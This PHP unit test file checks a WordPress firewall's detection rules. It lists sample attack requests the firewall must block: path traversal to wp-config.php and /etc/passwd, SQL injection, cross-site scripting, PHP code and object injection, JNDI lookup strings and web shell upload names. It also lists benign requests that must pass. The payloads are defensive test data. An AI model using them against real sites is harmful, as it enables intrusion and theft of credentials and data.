<?php
/**
 * Tests which requests the firewall blocks.
 *
 * @package Jetpack_Dashboard
 */

declare( strict_types=1 );

namespace Jetpack_Dashboard\Tests\Features\Waf;

use Jetpack_Dashboard\Features\Waf\Database_Rules;
use Jetpack_Dashboard\Features\Waf\Incoming_Request;
use Jetpack_Dashboard\Features\Waf\Page_Rules;
use Jetpack_Dashboard\Features\Waf\Request_Body;
use Jetpack_Dashboard\Features\Waf\Rules;
use PHPUnit\Framework\TestCase;

require_once __DIR__ . '/Corpus.php';

final class RulesTest extends TestCase {

	protected function setUp(): void {
		$GLOBALS['test_filters'] = array();
		Rules::reset();
	}

	protected function tearDown(): void {
		ini_restore( 'pcre.backtrack_limit' );
		ini_restore( 'pcre.jit' );
		Rules::reset();
	}

	public function attacks(): array {
		return array(
			array( '/wp-content/themes/x/../../../wp-config.php', 'traversal' ),
			array( '/%2e%2e/%2e%2e/etc/passwd', 'traversal' ),
			array( '/%252e%252e%252fwp-config.php', 'traversal' ),
			array( '/.env', 'hidden-file' ),
			array( '/.git/config', 'hidden-file' ),
			array( '/sub/.env.production', 'hidden-file' ),
			array( '/wp-config.php~', 'config-copy' ),
			array( '/wp-config.php.bak', 'config-copy' ),
			array( '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', 'known-hole' ),
			array( '/a%00.php', 'null-byte' ),
			array( '/?GLOBALS[x]=1', 'superglobal' ),
			array( '/?_SERVER[REMOTE_ADDR]=1', 'superglobal' ),
			array( '/?file=../../wp-load.php', 'traversal-value' ),
			array( '/?file=..%5c..%5cwindows', 'traversal-value' ),
			array( '/?a[b][]=%2e%2e%2f%2e%2e%2f', 'traversal-value' ),
			array( '/?page=php://filter/convert.base64-encode/resource=index', 'wrapper' ),
			array( '/?page=phar:///tmp/a.jpg', 'wrapper' ),
			array( '/?f=/etc/passwd', 'system-file' ),
			array( '/?img=wp-config.php', 'config-file' ),
			array( '/?id=1 UNION SELECT user_pass FROM wp_users', 'sql-union' ),
			array( '/?id=1+union+all+select+null,null', 'sql-union' ),
			array( '/?id=1/**/union/**/select/**/1,2', 'sql-union' ),
			array( "/?id=1'+OR+'1'='1", 'sql-always' ),
			array( '/?id=1+or+1=1', 'sql-always' ),
			array( '/?id=1) and (2=2', 'sql-always' ),
			array( '/?id=1 and sleep(5)', 'sql-function' ),
			array( "/?id=1;waitfor delay '0:0:5'", 'sql-function' ),
			array( '/?id=1/*!50000UNION*//*!50000SELECT*/1', 'sql-union' ),
			array( "/?id=x' or true", 'sql-always' ),
			array( '/?s=<script>alert(1)</script>', 'script-in-text' ),
			array( '/?id=extractvalue(1,concat(0x7e,version()))', 'sql-function' ),
			array( '/?t=information_schema.tables', 'sql-schema' ),
			array( '/?t=1;drop table wp_users', 'sql-stacked' ),
			array( '/?q=%3Cscript%3Ealert(1)%3C/script%3E', 'script' ),
			array( '/?q=%253Cscript%253Ealert(1)', 'script' ),
			array( '/?q=%26lt%3Bscript%26gt%3B', 'script' ),
			array( '/?q=<img src=x onerror=alert(1)>', 'handler' ),
			array( '/?u=javascript:alert(document.cookie)', 'script-link' ),
			array( '/?c=<?php phpinfo();', 'php-tag' ),
			array( '/?c=eval($_POST[x])', 'php-code' ),
			array( '/?c=system(\'id\')', 'php-code' ),
			array( '/?o=O:8:"stdClass":1:{s:1:"a";i:1;}', 'php-object' ),
			array( '/?x=${jndi:ldap://x.test/a}', 'lookup' ),
			array( '/?x=${${lower:j}ndi:ldap://x.test}', 'lookup' ),
		);
	}

	/** @dataProvider attacks */
	public function test_attack( string $address, string $rule ): void {
		$this->assertSame( $rule, $this->rule_of( $address ) );
	}

	public function honest_requests(): array {
		return array_map(
			static function ( string $address ): array {
				return array( $address );
			},
			array(
				'/',
				'/2026/03/a-week-of-walking/',
				'/.well-known/security.txt',
				'/environment/git-and-env/',
				'/wp-login.php?redirect_to=https%3A%2F%2Fexample.org%2Fwp-admin%2F&reauth=1',
				'/?s=union+select+1+from+users',
				'/?s=%3Cscript%3E',
				'/wp-json/wp/v2/posts?search=../wp-config.php&per_page=5&_fields=id,title',
				'/?utm_source=news&utm_campaign=buy%20one%20or%20two&utm_term=100%25',
				'/?q=the+union+will+select+a+new+leader',
				'/?q=O%27Reilly+and+sons',
				'/?q=one+or+two=three',
				'/?price=10..20&size=1-2',
				'/?filter={"a":[1,2],"b":"c"}',
				'/?email=a%2Bb@example.org&name=Zo%C3%AB',
				'/?sleep=8&note=sleep+(deep)',
				'/?tag=javascript:+the+good+parts',
				'/?url=https://example.org/file.php?x=1',
				'/?token=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc',
				'/wp-admin/load-scripts.php?c=0&load%5Bchunk_0%5D=jquery-core,jquery-migrate&ver=6.6',
				'/wp-cron.php?doing_wp_cron=1700000000.1234567890123456789012',
				'/?rest_route=/jetpack/v4/connection',
				'/?text=5<6+and+7>2',
				'/?customize_changeset_uuid=0f0f0f0f-0000-4000-8000-000000000000',
				'/?date=2026-03-05T10:00:00Z&tz=Europe/Lisbon',
				'/?vars=${name}',
			)
		);
	}

	/** @dataProvider honest_requests */
	public function test_harmless_request( string $address ): void {
		$this->assertSame( '', $this->rule_of( $address ) );
	}

	public function test_headers_and_programs(): void {
		$this->assertSame( 'lookup', $this->rule_of( '/', array( 'HTTP_REFERER' => '${jndi:ldap://x.test}' ) ) );
		$this->assertSame( 'attack-tool', $this->rule_of( '/', array( 'HTTP_USER_AGENT' => 'sqlmap/1.8#stable' ) ) );
		$this->assertSame( '', $this->rule_of( '/', array( 'HTTP_USER_AGENT' => 'Mozilla/5.0 (X11; Linux)' ) ) );
		$this->assertSame( 'lookup', $this->rule_of( '/', array( 'CONTENT_TYPE' => '${jndi:ldap://x.test}' ) ) );
		$this->assertSame( '', $this->rule_of( '/', array( 'CONTENT_TYPE' => 'multipart/form-data; boundary="----=_Part(1)"' ) ) );
		$this->assertSame( 'sql-always', $this->rule_of( '/', array( 'PHP_AUTH_USER' => "a' or 1=1 -- " ) ) );
		$this->assertSame( '', $this->rule_of( '/', array( 'PHP_AUTH_USER' => 'ann.o’neil+shop@example.org' ) ) );
		$secrets = array( 'HTTP_X_WP_NONCE' => '0123456789', 'HTTP_COOKIE' => '<script>' ); // phpcs:ignore WordPress.Arrays.ArrayDeclarationSpacing.AssociativeArrayFound
		$this->assertSame( '', $this->rule_of( '/', $secrets ) );
	}

	public function test_uploaded_files(): void {
		$rule_of = static function ( $name ): string {
			return Rules::broken_by(
				( new Incoming_Request(
					array( 'REQUEST_URI' => '/' ),
					array(),
					array(),
					array(
						'file' => array(
							'name'     => $name,
							'type'     => 'x',
							'tmp_name' => '/tmp/a.php',
						),
					)
				) )->texts()
			);
		};
		$this->assertSame( 'file-type', $rule_of( 'shell.php' ) );
		$this->assertSame( 'file-type', $rule_of( array( 'a.jpg', 'shell.phtml.jpg' ) ) );
		$this->assertSame( 'file-type', $rule_of( array( 'photos' => array( 'a.jpg', 'shell.pHp' ) ) ) );
		$this->assertSame( '', $rule_of( array( 'a.jpg', 'php.pdf' ) ) );
	}

	public function test_an_attack_behind_any_length_of_text_is_found(): void {
		foreach ( array( 8150, 8180, 8192, 20000, 300000 ) as $length ) {
			$body = '{"a":"' . str_repeat( 'x', $length ) . "' union select user_pass from wp_users\"}";
			$this->assertSame( 'sql-union', Rules::broken_by( ( new Request_Body( array(), Corpus::stream( $body ) ) )->texts() ), (string) $length );
		}
	}

	public function test_a_body_is_parsed_by_content_not_by_header(): void {
		$rule_of = static fn( string $body ): string => Rules::broken_by( ( new Request_Body( array(), Corpus::stream( $body ) ) )->texts() );

		$this->assertSame( 'sql-always', $rule_of( '{"a":["1","1 or 1=1"]}' ) );
		$this->assertSame( 'sql-always', $rule_of( '"1 or 1=1"' ) );
		$this->assertSame( 'sql-always', $rule_of( "a=b&c=1'+or+1%3D1" ) );
		$this->assertSame( 'script', $rule_of( '{"broken":"<script>alert(1)' ) );
		$this->assertSame( 'handler', $rule_of( '<r><v>&lt;img src=x onerror=alert(1)&gt;</v></r>' ) );
		$this->assertSame( 'file-content', $rule_of( "\x89PNG\0\0\0\0\1\2\3\4<?php eval(1);" ) );
		$this->assertSame( '', $rule_of( str_repeat( "\0\1\2<script>", 300 ) ) );
	}

	public function test_a_header_hides_no_body(): void {
		$form    = 'application/x-www-form-urlencoded; charset=utf-8';
		$rule_of = static fn( string $body, array $post = array() ): string => Rules::broken_by( ( new Request_Body( $post, Corpus::stream( $body ), $form ) )->texts() );

		// PHP parsed these bodies as forms with odd field names, but code that reads the raw body finds JSON.
		$this->assertSame( 'sql-union', $rule_of( '{"a":"1\nunion\nselect user_pass from wp_users"}', array( '{"a":"1\nunion\nselect_user_pass' => '' ) ) );
		$this->assertSame( 'sql-always', $rule_of( str_repeat( "\n", 9000 ) . '{"a":"1 or 1=1"}', array( 'x' => '1' ) ) );
		$this->assertSame( '', $rule_of( 'a=1+or+1%3D1', array( 'a' => 'checked by itself' ) ) );
		// For other methods, WordPress parses forms by the Content-Type header.
		$this->assertSame( 'sql-always', $rule_of( 'a=' . str_repeat( "\1", 40 ) . "&b=1'+or+1%3D1" ) );
		$this->assertSame( 'sql-always', $rule_of( "&a=these+are+four+words&b=1'+or+1%3D1" ) );
	}

	public function test_json_is_read_as_deep_as_wordpress_reads_it(): void {
		$body = '{"a":"these are four words","b":' . str_repeat( '[', 300 ) . str_repeat( ']', 300 ) . ',"c":"1 or 1=1"}';

		$this->assertSame( 'sql-always', Rules::broken_by( ( new Request_Body( array(), Corpus::stream( $body ) ) )->texts() ) );
	}

	public function test_an_xml_rpc_method_is_known_only_where_it_is_plain(): void {
		$method_of = static fn( string $xml ): string => ( new Request_Body( array(), Corpus::stream( $xml ) ) )->method();
		$name      = '<methodName> wp.newPost </methodName>';

		$this->assertSame( 'wp.newPost', $method_of( "<?xml version=\"1.0\"?>\n<methodCall>\n$name<params/></methodCall>" ) );
		$this->assertSame( '', $method_of( "<methodCall><!-- $name --><methodName>other.method</methodName></methodCall>" ) );
		$this->assertSame( '', $method_of( "<methodCall>$name<params/><methodName>other.method</methodName></methodCall>" ) );
		$this->assertSame( '', $method_of( "<!DOCTYPE a [<!ENTITY b \"c\">]><methodCall>$name</methodCall>" ) );
	}

	/**
	 * PHP caches patterns that other tests compiled with JIT.
	 *
	 * @runInSeparateProcess
	 */
	public function test_repeated_prefixes_take_no_time(): void {
		ini_set( 'pcre.jit', '0' );
		$start = microtime( true );

		foreach ( array( '{{', '{{ ', '(select ', 'union select a ' ) as $text ) {
			$this->assertSame( '', Rules::broken_by( array( 'field' => array( str_repeat( $text, 40000 ) ) ) ), $text );
		}
		$this->assertSame( '', Rules::broken_by( array( 'link' => array( str_repeat( '../', 40000 ) ) ) ) );
		// Rules that continue past the start of the next match would take about 10 seconds.
		$this->assertLessThan( 5, microtime( true ) - $start );
	}

	public function test_a_password_may_look_like_code_but_not_like_a_break_out_of_a_query(): void {
		$rule_of = static fn( string $password ): string => Rules::broken_by( ( new Request_Body( array( 'pwd' => $password ) ) )->texts() );

		$this->assertSame( '', $rule_of( '<script>`id`;$(ls)../../' ) );
		$this->assertSame( 'sql-always', $rule_of( "' or '1'='1" ) );
	}

	public function test_a_text_that_pcre_gives_up_on_is_refused(): void {
		ini_set( 'pcre.jit', '0' );
		ini_set( 'pcre.backtrack_limit', '1' );

		$this->assertSame( Rules::UNREADABLE, $this->rule_of( "/?a=it's <harmless> or (not), but needs more than one step" ) );
	}

	public function test_a_filter_can_remove_rules(): void {
		$this->filter_rules(
			static function ( array $rules ): array {
				unset( $rules['value']['script'] );
				return $rules;
			}
		);
		$this->assertSame( '', $this->rule_of( '/?q=<script>' ) );
	}

	public function test_an_invalid_added_rule_is_ignored(): void {
		$this->filter_rules(
			static function ( array $rules ): array {
				$rules['value'] = array(
					'broken' => '#(',
					'none'   => null,
					'own'    => '#forbidden-word#',
				) + $rules['value'];
				$rules['path']  = 'nonsense';
				return $rules;
			}
		);
		$this->assertSame( 'sql-always', $this->rule_of( '/?id=1+or+1=1' ) );
		$this->assertSame( 'own', $this->rule_of( '/?id=(forbidden-word)' ) );
		$this->assertSame( '', $this->rule_of( '/?id=1' ) );
		$this->assertSame( array( 'broken', 'none' ), Rules::unusable() );
	}

	public function test_a_filter_that_gives_no_rules_at_all_changes_nothing(): void {
		$this->filter_rules( static fn() => null );
		$this->assertSame( 'sql-always', $this->rule_of( '/?id=1+or+1=1' ) );
	}

	public function test_the_rules_that_ship_are_valid(): void {
		foreach ( Database_Rules::ALL + Page_Rules::ALL as $name => $rule ) {
			$pattern = $rule[1];
			$this->assertSame( 0, preg_match( $pattern, '' ), $name );
			$this->assertSame( 0, preg_match( '/[^\\\\][*+]\)[*+]/', $pattern ), "$name nests unbounded repetitions" );
		}
		$this->assertCount( count( Database_Rules::ALL ) + count( Page_Rules::ALL ), Database_Rules::ALL + Page_Rules::ALL );
	}

	private function filter_rules( callable $filter ): void {
		$GLOBALS['test_filters']['jetpack_dashboard_firewall_rules'][] = array( $filter, 1 );
	}

	private function rule_of( string $address, array $server = array() ): string {
		parse_str( (string) parse_url( 'http://x.test' . $address, PHP_URL_QUERY ), $query );
		return Rules::broken_by( ( new Incoming_Request( array( 'REQUEST_URI' => $address ) + $server, $query, array(), array() ) )->texts() );
	}
}
